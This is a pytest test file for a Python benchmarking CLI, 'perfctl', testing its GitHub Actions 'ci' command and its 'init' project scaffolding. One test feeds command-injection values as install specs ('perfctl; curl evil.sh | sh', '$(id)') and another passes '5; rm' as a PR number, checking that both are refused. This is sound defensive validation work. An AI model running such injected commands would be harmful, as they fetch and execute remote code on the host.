"""`perfctl ci` (context, artefacts, gate, end to end) and `perfctl init`."""

from __future__ import annotations

import json
import re
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from perfctl import __version__
from perfctl.errors import UsageError
from perfctl.jobs import ci, scaffold
from perfctl.model import FAILED, IMPROVED, NO_CHANGE, REGRESSED, comparison_from_dict
from perfctl.publish.github import Target
from tests.conftest import GitRepo, run_cli
from tests.test_comment import comparison, regime
from tests.test_github import MARK, REPO, TOKEN, FakeGitHub, gh_env, serve_fake_github


@pytest.fixture
def fake_github() -> Iterator[FakeGitHub]:
    """The local fake GitHub of test_github, for one test."""
    with serve_fake_github() as gh:
        yield gh


PR_EVENT: dict[str, Any] = {
    "pull_request": {"number": 5, "head": {"repo": {"full_name": REPO}}, "base": {"sha": "f" * 40}},
    "repository": {"full_name": REPO},
}


# -- GitHub Actions context ----------------------------------------------------------
def test_pr_context_from_the_event() -> None:
    ctx = ci.pr_context(PR_EVENT, {})
    assert ctx == ci.PrContext(Target("octo", "app", 5), fork=False, base_sha="f" * 40)


def test_pr_context_flags_win_and_forks_are_spotted() -> None:
    fork = json.loads(json.dumps(PR_EVENT))
    fork["pull_request"]["head"]["repo"]["full_name"] = "someone/app"
    ctx = ci.pr_context(fork, {}, repo="octo/other", pr=8)
    assert ctx is not None and ctx.fork and ctx.target == Target("octo", "other", 8)
    assert ci.pr_context({}, {"GITHUB_REPOSITORY": REPO}, pr=3) == ci.PrContext(
        Target("octo", "app", 3)
    )
    assert ci.pr_context({"schedule": "0 3 * * *"}, {"GITHUB_REPOSITORY": REPO}) is None


def test_pr_context_errors() -> None:
    with pytest.raises(UsageError, match="--repo needs --pr"):
        ci.pr_context({}, {}, repo=REPO)
    with pytest.raises(UsageError, match="--pr needs --repo"):
        ci.pr_context({}, {}, pr=3)
    with pytest.raises(UsageError, match="pull_request.number is not a number"):
        ci.pr_context({"pull_request": {"number": "5; rm"}}, {"GITHUB_REPOSITORY": REPO})


def test_read_event(tmp_path: Path) -> None:
    assert ci.read_event({}) == ({}, None)
    good = tmp_path / "e.json"
    good.write_text(json.dumps(PR_EVENT))
    assert ci.read_event({"GITHUB_EVENT_PATH": str(good)}) == (PR_EVENT, None)
    data, warning = ci.read_event({"GITHUB_EVENT_PATH": str(tmp_path / "missing.json")})
    assert data == {} and warning is not None and "FileNotFoundError" in warning


def test_run_url() -> None:
    env = {
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_RUN_ID": "42",
    }
    assert ci.run_url(env) == "https://github.com/octo/app/actions/runs/42"
    assert ci.run_url({}) is None


def test_default_base_is_the_merge_base(git_repo: GitRepo) -> None:
    git_repo.write("a.txt", "1")
    first = git_repo.commit("first")
    git_repo.git("checkout", "-q", "-b", "feature")
    git_repo.write("a.txt", "2")
    git_repo.commit("on feature")
    git_repo.git("checkout", "-q", "main")
    git_repo.write("b.txt", "main moves on")
    git_repo.commit("on main")
    git_repo.git("checkout", "-q", "feature")
    assert ci.default_base(git_repo.path, "HEAD", None) == first
    ctx = ci.PrContext(Target("o", "r", 1), base_sha=git_repo.git("rev-parse", "main"))
    assert ci.default_base(git_repo.path, "HEAD", ctx) == first
    missing = ci.PrContext(Target("o", "r", 1), base_sha="e" * 40)
    with pytest.raises(Exception) as err:
        ci.default_base(git_repo.path, "HEAD", missing)
    assert "fetch-depth: 0" in getattr(err.value, "hint", "")


# -- gate, artefacts, summary ------------------------------------------------------------
def test_gate_exit_codes() -> None:
    reg = comparison([regime("a", REGRESSED, change=0.2)])
    assert ci.gate_exit_code(reg, fail_on_regression=False) == 0
    assert ci.gate_exit_code(reg, fail_on_regression=True) == 1
    both = comparison([regime("a", REGRESSED, change=0.2), regime("b", FAILED)])
    assert ci.gate_exit_code(both, fail_on_regression=True) == 3
    assert ci.gate_exit_code(comparison([regime("a", IMPROVED, change=-0.2)]), True) == 0


def test_write_artifacts(tmp_path: Path) -> None:
    c = comparison([regime("a", REGRESSED, change=0.2)])
    ctx = ci.PrContext(Target("o", "r", 12))
    files, notes = ci.write_artifacts(c, "BODY\n", tmp_path / "out", ctx)
    names = {p.name for p in files}
    assert {"comparison.json", "comparison.md", "pr-number.txt"} <= names
    assert ("report.html" in names) != bool(notes)  # written, or skipped with a note
    assert (tmp_path / "out" / "comparison.md").read_text() == "BODY\n"
    assert (tmp_path / "out" / "pr-number.txt").read_text() == "12\n"
    data = json.loads((tmp_path / "out" / "comparison.json").read_text())
    assert comparison_from_dict(data) == c


def test_step_summary_is_appended(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    summary.write_text("earlier step\n")
    assert ci.append_step_summary({"GITHUB_STEP_SUMMARY": str(summary)}, "BODY") is None
    assert summary.read_text() == "earlier step\nBODY\n"
    assert ci.append_step_summary({}, "BODY") is None
    note = ci.append_step_summary({"GITHUB_STEP_SUMMARY": str(tmp_path / "no" / "f")}, "B")
    assert note is not None and note.startswith("cannot append to GITHUB_STEP_SUMMARY")


def test_profiles_are_copied_into_the_artefacts(tmp_path: Path) -> None:
    svg = tmp_path / "proj" / "prof" / "flame.svg"
    svg.parent.mkdir(parents=True)
    svg.write_text("<svg/>")
    c = comparison(
        [
            regime(
                "ipc.echo[size=64]",
                REGRESSED,
                change=0.2,
                artifacts={"diff_flame": "prof/flame.svg", "gone": "/nope.svg"},
            )
        ]
    )
    out = ci.collect_profiles(c, tmp_path / "proj", tmp_path / "ci")
    arts = out.regimes[0].artifacts
    assert re.fullmatch(
        r"profiles/ipc\.echo_size_64-[0-9a-f]{8}-diff_flame\.svg", arts["diff_flame"]
    )
    assert (tmp_path / "ci" / arts["diff_flame"]).read_text() == "<svg/>"
    assert arts["gone"] == "/nope.svg"


def test_no_post_for_forks_or_without_token() -> None:
    ctx = ci.PrContext(Target("o", "r", 1), fork=True)
    _, _, note = ci._maybe_post(ctx, "b", MARK, {"GITHUB_TOKEN": TOKEN})
    assert note is not None and "fork" in note and "workflow_run" in note
    _, _, note = ci._maybe_post(ci.PrContext(Target("o", "r", 1)), "b", MARK, {})
    assert note == "GITHUB_TOKEN is not set: the PR comment was not posted"
    assert ci._maybe_post(None, "b", MARK, {}) == (None, None, None)


# -- run_ci with a stubbed comparison (fast) -----------------------------------------------
@pytest.fixture
def stub_compare(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """compare_refs replaced by a canned regression; records (base, head) it was asked."""
    import perfctl.jobs.compare

    asked: list[tuple[str, str]] = []

    def fake(config: object, base: str, head: str, **kw: object) -> object:
        asked.append((base, head))
        return comparison([regime("hot", REGRESSED, change=0.3), regime("ok", NO_CHANGE)])

    monkeypatch.setattr(perfctl.jobs.compare, "compare_refs", fake)
    return asked


def _run(tmp_path: Path, gh: FakeGitHub, event: dict[str, object], **opts: object) -> ci.CiOutcome:
    from perfctl.config import Config

    path = tmp_path / "event.json"
    path.write_text(json.dumps(event))
    env = gh_env(gh, GITHUB_EVENT_PATH=str(path), PERFCTL_GITHUB_MAX_WAIT="0.3")
    options = ci.CiOptions(base="v1", artifacts=tmp_path / "out", **opts)  # type: ignore[arg-type]
    return ci.run_ci(Config(root=tmp_path), options, env)


def test_run_ci_posts_before_the_gate(
    tmp_path: Path, fake_github: FakeGitHub, stub_compare: list[tuple[str, str]]
) -> None:
    outcome = _run(tmp_path, fake_github, PR_EVENT, fail_on_regression=True)
    assert stub_compare == [("v1", "HEAD")]
    assert outcome.exit_code == 1 and outcome.comment is not None
    assert fake_github.bodies(pr=5) == [outcome.body]
    assert (tmp_path / "out" / "comparison.md").read_text() == outcome.body


def test_run_ci_publish_error_exits_3_after_writing_artefacts(
    tmp_path: Path, fake_github: FakeGitHub, stub_compare: list[tuple[str, str]]
) -> None:
    from tests.test_github import Scripted

    fake_github.script.append(Scripted(403, {}, {"message": "Resource not accessible"}))
    outcome = _run(tmp_path, fake_github, PR_EVENT)
    assert outcome.exit_code == 3 and outcome.publish_error is not None
    assert outcome.publish_error.message.startswith("GitHub refused the request: 403")
    assert (tmp_path / "out" / "comparison.json").is_file()


def test_run_ci_leaves_forks_to_workflow_run(
    tmp_path: Path, fake_github: FakeGitHub, stub_compare: list[tuple[str, str]]
) -> None:
    fork = json.loads(json.dumps(PR_EVENT))
    fork["pull_request"]["head"]["repo"]["full_name"] = "stranger/app"
    outcome = _run(tmp_path, fake_github, fork)
    assert outcome.exit_code == 0 and outcome.comment is None
    assert any("fork" in n for n in outcome.notes)
    assert fake_github.log == []
    assert (tmp_path / "out" / "pr-number.txt").read_text() == "5\n"


# -- `perfctl ci` end to end ---------------------------------------------------------------
PYPROJECT = """\
[project]
name = "toy"
version = "0.1"

[tool.perfctl]
regimes = ["bench/regimes.py"]
install = false
"""

TOY = "def work():\n    return sum(i * i for i in range({n}))\n"

REGIMES = '''\
from perfctl import regime
import toy

@regime(family="toy")
def work():
    """Call toy.work once."""
    yield toy.work
'''


@pytest.mark.slow
def test_ci_end_to_end(git_repo: GitRepo, fake_github: FakeGitHub, tmp_path: Path) -> None:
    git_repo.write("pyproject.toml", PYPROJECT)
    git_repo.write("toy/__init__.py", TOY.format(n=2000))
    git_repo.write("bench/regimes.py", REGIMES)
    git_repo.write(".gitignore", ".perfctl/\nreports/\n")
    base = git_repo.commit("c1: baseline")
    git_repo.git("checkout", "-q", "-b", "feature")
    git_repo.write("toy/__init__.py", TOY.format(n=10000))
    git_repo.commit("c2: five times `more` work\n\nbody <b>")
    event = tmp_path / "event.json"
    event.write_text(
        json.dumps(
            {**PR_EVENT, "pull_request": {**PR_EVENT["pull_request"], "base": {"sha": base}}}
        )
    )
    summary = tmp_path / "summary.md"
    env = gh_env(fake_github, GITHUB_EVENT_PATH=str(event), GITHUB_STEP_SUMMARY=str(summary))
    fast = ["--fast"]  # 6 rounds of time; a counter keeps its own 3 processes a side

    gated = run_cli("ci", *fast, "--fail-on-regression", cwd=git_repo.path, env=env)
    assert gated.returncode == 1, gated.stderr
    body = fake_github.bodies(pr=5)
    assert len(body) == 1, gated.stderr
    assert body[0].startswith(f"{MARK}\n### ❌ 1 regression\n")
    assert "| work |" in body[0] and f"**Base** {base}" in body[0]
    assert "c2: five times \\`more\\` work" in body[0]
    assert "Comment created: https://github.example/octo/app/pull/5" in gated.stderr
    assert gated.stdout == body[0] and summary.read_text() == body[0]
    out = git_repo.path / "reports" / "ci"
    assert (out / "comparison.md").read_text() == body[0]
    assert (out / "pr-number.txt").read_text() == "5\n"
    data = json.loads((out / "comparison.json").read_text())
    assert data["base"]["sha"] == base and data["regimes"][0]["verdict"] == "regressed"

    # Again with --repo/--pr, the default base (merge-base with main), and no gate:
    # exit 0, and the same comment is updated, not duplicated. This runner keeps its
    # history on a branch of its origin (pulled first, pushed after).
    env["GITHUB_EVENT_PATH"] = ""
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    git_repo.git("remote", "add", "origin", str(origin))
    git_repo.git("push", "-q", "origin", "main", "feature")
    again = run_cli(
        "ci", *fast, "--repo", REPO, "--pr", "5", "--artifacts", str(tmp_path / "art"),
        "--history-branch", "perfctl-data", cwd=git_repo.path, env=env,
    )  # fmt: skip
    assert again.returncode == 0, again.stderr
    # Both ci runs' records (2 runs and a comparison each) went to the branch...
    assert "history origin/perfctl-data: pushed 4 runs and 2 comparisons" in again.stderr
    fresh = tmp_path / "fresh"
    subprocess.run(["git", "clone", "-q", str(origin), str(fresh)], check=True)
    pulled = run_cli("sync", "perfctl-data", "--pull-only", cwd=fresh)
    assert "pulled 4 runs and 2 comparisons" in pulled.stderr, pulled.stderr
    # ...and a fresh runner's history report charts them.
    history = run_cli("report", "--history", "-o", "h.html", cwd=fresh)
    assert history.returncode == 0 and (fresh / "h.html").is_file(), history.stderr
    assert len(fake_github.bodies(pr=5)) == 1 and len(fake_github.calls("POST")) == 1
    assert "Comment updated" in again.stderr or "Comment unchanged" in again.stderr
    assert json.loads((tmp_path / "art" / "comparison.json").read_text())["base"]["sha"] == base
    for path in [*git_repo.path.rglob("*"), *tmp_path.rglob("*")]:
        if path.is_file() and ".git" not in path.parts:
            assert TOKEN.encode() not in path.read_bytes(), path
    assert TOKEN not in gated.stdout + gated.stderr + again.stdout + again.stderr
    # Counters in CI: --measure reaches the comparison, and the comment shows the unit.
    counted = run_cli(
        "ci", "--measure", "memory", "--repo", REPO, "--pr", "6",
        "--artifacts", str(tmp_path / "mem"), cwd=git_repo.path, env=env,
    )  # fmt: skip
    assert counted.returncode == 0, counted.stderr
    assert "blocks/op" in counted.stdout and "| work |" in counted.stdout, counted.stdout
    saved = json.loads((tmp_path / "mem" / "comparison.json").read_text())
    assert saved["settings"]["measure"] == "memory", saved["settings"]
    # Two signals in one ci run: one comment, the signals side by side, each folded below.
    both = run_cli(
        "ci", "--measure", "memory,time", *fast, "--repo", REPO, "--pr", "7",
        "--artifacts", str(tmp_path / "both"), cwd=git_repo.path, env=env,
    )  # fmt: skip
    assert both.returncode == 0, both.stderr
    (posted,) = fake_github.bodies(pr=7)
    assert posted.startswith(f"{MARK}\n### ❌ 1 regression (time)\n") and posted.count(MARK) == 1
    assert "| Regime | memory (±0.5%) | time (±1%) |" in posted
    assert "work: regressed by time only (memory: no change)" in posted  # it keeps nothing
    assert "<details><summary>memory: ➖ No significant change" in posted
    assert "<details><summary>time: ❌ 1 regression</summary>" in posted
    art = tmp_path / "both"
    side = json.loads((art / "signals.json").read_text())
    assert side["signals"] == ["memory", "time"]
    assert side["regimes"][0]["verdicts"] == {"memory": "no change", "time": "regressed"}
    assert json.loads((art / "comparison-time.json").read_text())["settings"]["measure"] == "time"
    assert json.loads((art / "comparison.json").read_text())["settings"]["measure"] == "memory"
    assert "memory: ➖ No significant change; time: ❌ 1 regression · artefacts" in both.stderr
    # The fork path: the trusted workflow renders signals.json itself, schema-checked.
    dry = run_cli("comment", "--comparison-file", str(art / "signals.json"), "--dry-run",
                  cwd=tmp_path)  # fmt: skip
    assert dry.returncode == 0, dry.stderr
    assert "| Regime | memory (±0.5%) | time (±1%) |" in dry.stdout
    assert "<details><summary>time: ❌ 1 regression</summary>" in dry.stdout
    side["comparisons"] *= 2  # four comparisons: not something ci writes
    (tmp_path / "odd.json").write_text(json.dumps(side))
    odd = run_cli("comment", "--comparison-file", str(tmp_path / "odd.json"), "--dry-run",
                  cwd=tmp_path)  # fmt: skip
    assert odd.returncode == 2 and "holds 1 to 3 comparisons" in odd.stderr, odd.stderr


# -- `perfctl init` --------------------------------------------------------------------------
def test_init_in_an_empty_directory(tmp_path: Path) -> None:
    out = run_cli("init", "-C", str(tmp_path), cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines() == [
        "created     perfctl.toml",
        "created     benchmarks/regimes.py",
        "created     .gitignore",
    ]
    table = tomllib.loads((tmp_path / "perfctl.toml").read_text())
    assert table["regimes"] == ["benchmarks/regimes.py"] and table["install"] is False
    assert (tmp_path / ".gitignore").read_text() == ".perfctl/\n"


def test_init_appends_to_pyproject_without_clobbering(tmp_path: Path) -> None:
    original = '[project]\nname = "x"\nversion = "1"\n\n[tool.black]\nline-length = 99'
    (tmp_path / "pyproject.toml").write_text(original)
    (tmp_path / ".gitignore").write_text("dist/")
    steps = scaffold.init_project(tmp_path)
    assert [s.action for s in steps] == ["appended", "created", "appended"]
    text = (tmp_path / "pyproject.toml").read_text()
    assert text.startswith(original + "\n\n[tool.perfctl]\n")
    data = tomllib.loads(text)
    assert data["tool"]["black"] == {"line-length": 99}
    assert data["tool"]["perfctl"] == {"regimes": ["benchmarks/regimes.py"]}
    assert (tmp_path / ".gitignore").read_text() == "dist/\n.perfctl/\n"
    # Configured now: a second init changes nothing.
    again = scaffold.init_project(tmp_path)
    assert [s.action for s in again] == ["kept", "kept"]
    assert (tmp_path / "pyproject.toml").read_text() == text


def test_init_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    (tmp_path / "benchmarks").mkdir()
    (tmp_path / "benchmarks" / "regimes.py").write_text("# mine\n")
    out = run_cli("init", "--ci", "github", "-C", str(tmp_path), cwd=tmp_path)
    assert out.returncode == 2
    assert out.stderr == (
        "Error: benchmarks/regimes.py already exists\n"
        "Hint: pass --force to overwrite (pyproject.toml and .gitignore are "
        "only ever appended to)\n"
    )
    assert not (tmp_path / "perfctl.toml").exists()  # nothing half-done
    forced = run_cli("init", "--ci", "github", "--force", "-C", str(tmp_path), cwd=tmp_path)
    assert forced.returncode == 0, forced.stderr
    assert "overwritten benchmarks/regimes.py" in forced.stdout
    assert "# mine" not in (tmp_path / "benchmarks" / "regimes.py").read_text()


def test_init_ci_github_writes_both_workflows(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "x"\nversion = "1"\n')
    scaffold.init_project(tmp_path, "github")
    wf = tmp_path / ".github" / "workflows"
    main, post = (wf / "perfctl.yml").read_text(), (wf / "perfctl-comment.yml").read_text()
    assert "perfctl ci --fail-on-regression" in main and "pull_request_target" in main
    assert "actions/cache@" in main and ".perfctl/envs" in main
    assert "upload-artifact" in main and "fetch-depth: 0" in main
    assert "workflow_run" in post and "--comparison-file" in post
    # Pinned to the perfctl that wrote them.
    pinned = f"run: python -m pip install perfctl=={__version__}\n"
    assert pinned in main and pinned in post and "__PERFCTL_INSTALL__" not in main + post
    # Workflows edited by hand are protected; identical ones are "unchanged".
    again = scaffold.init_project(tmp_path, "github")
    assert {s.action for s in again} == {"kept", "unchanged"}
    (wf / "perfctl.yml").write_text(main + "# edited\n")
    with pytest.raises(UsageError, match=r"^\.github/workflows/perfctl\.yml already exists$"):
        scaffold.init_project(tmp_path, "github")


def test_workflows_are_valid_yaml_with_the_documented_shape(tmp_path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    main = yaml.safe_load(scaffold.template("workflow-github.yml"))
    on = main[True]  # YAML 1.1 reads the key `on` as True
    assert set(on) == {"pull_request", "schedule", "workflow_dispatch"}
    assert main["permissions"] == {"contents": "read", "pull-requests": "write"}
    steps = main["jobs"]["compare"]["steps"]
    uses = [s.get("uses", "") for s in steps]
    assert any(u.startswith("actions/cache@") for u in uses)
    assert sum(u.startswith("actions/upload-artifact@") for u in uses) == 2
    post = yaml.safe_load(scaffold.template("workflow-github-comment.yml"))
    assert post[True]["workflow_run"] == {"workflows": ["perfctl"], "types": ["completed"]}
    assert "actions/checkout" not in scaffold.template("workflow-github-comment.yml")


def test_starter_regime_runs(tmp_path: Path) -> None:
    from perfctl.regimes import loader

    scaffold.init_project(tmp_path)
    (defn,) = loader.load_file(tmp_path / "benchmarks" / "regimes.py")
    assert defn.name == "sort_floats"
    with loader.open_regime(defn, {}) as instance:
        instance.run()
    listed = run_cli("list", "--format", "json", cwd=tmp_path)
    assert listed.returncode == 0, listed.stderr
    assert "sort_floats" in listed.stdout


def test_init_install_spec_is_written_quoted_and_hostile_ones_refused(tmp_path: Path) -> None:
    url = "git+https://example.org/perfctl.git@v0.1.0#egg=perfctl"
    out = run_cli("init", "--ci", "github", "--install", url, "-C", str(tmp_path), cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    main = (tmp_path / ".github" / "workflows" / "perfctl.yml").read_text()
    assert f"run: python -m pip install '{url}'\n" in main
    other = tmp_path / "other"
    other.mkdir()
    for hostile in ("perfctl; curl evil.sh | sh", "$(id)", "perfctl'", "-e ."):
        bad = run_cli("init", "--ci", "github", "--install", hostile, "-C", str(other), cwd=other)
        assert bad.returncode == 2, (hostile, bad.stderr)
        assert bad.stderr.startswith("Error: --install `") and "Hint:" in bad.stderr
        assert not (other / ".github").exists() and not (other / "pyproject.toml").exists()


def test_init_usage_errors(tmp_path: Path) -> None:
    out = run_cli("init", "-C", str(tmp_path / "missing"), cwd=tmp_path)
    assert out.returncode == 2 and "is not a directory" in out.stderr
    (tmp_path / "pyproject.toml").write_text("[project\n")
    out = run_cli("init", "-C", str(tmp_path), cwd=tmp_path)
    assert out.returncode == 2 and out.stderr.startswith("Error: ") and "invalid TOML" in out.stderr
    assert "Traceback" not in out.stderr


def test_unchanged_comparison_is_not_a_change() -> None:
    # ci's comment for a quiet PR still goes out (as "no significant change").
    c = comparison([regime("a", NO_CHANGE)])
    assert ci.gate_exit_code(c, True) == 0
